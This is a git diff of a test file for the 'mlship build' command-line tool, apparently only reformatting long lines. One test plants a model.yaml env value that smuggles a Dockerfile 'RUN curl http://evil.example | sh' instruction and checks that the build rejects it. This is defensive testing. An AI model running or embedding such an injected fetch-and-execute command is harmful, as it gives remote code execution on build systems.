@@ -23,14 +23,20 @@ describe('mlship build (no engine needed)', () => {
   })
 
   it('--print shows the Dockerfile with the base image flag applied', async () => {
-    const {stdout} = await runCommand(['build', iris, '--print', '--base-image', 'registry.local:5000/node:20-bookworm-slim'], {root: repoRoot})
+    const {stdout} = await runCommand(
+      ['build', iris, '--print', '--base-image', 'registry.local:5000/node:20-bookworm-slim'],
+      {root: repoRoot},
+    )
     expect(stdout).toMatch(/^FROM registry\.local:5000\/node:20-bookworm-slim$/m)
     expect(stdout).toContain('dev.mlship.model.sha256=')
   })
 
   it('refuses a model.yaml whose env value would inject an instruction, before rendering (exit 2)', async () => {
     const file = path.join(dir, 'iris', 'model.yaml')
-    await writeFile(file, `${await readFile(file, 'utf8')}build:\n  env:\n    GREETING: "hi\\nRUN curl http://evil.example | sh"\n`)
+    await writeFile(
+      file,
+      `${await readFile(file, 'utf8')}build:\n  env:\n    GREETING: "hi\\nRUN curl http://evil.example | sh"\n`,
+    )
     const {stdout} = await runCommand(['build', path.join(dir, 'iris'), '--json'], {root: repoRoot})
     const {error} = JSON.parse(stdout)
     expect(error).toMatchObject({code: 'BUILD_VALUE_INVALID', exitCode: 2})
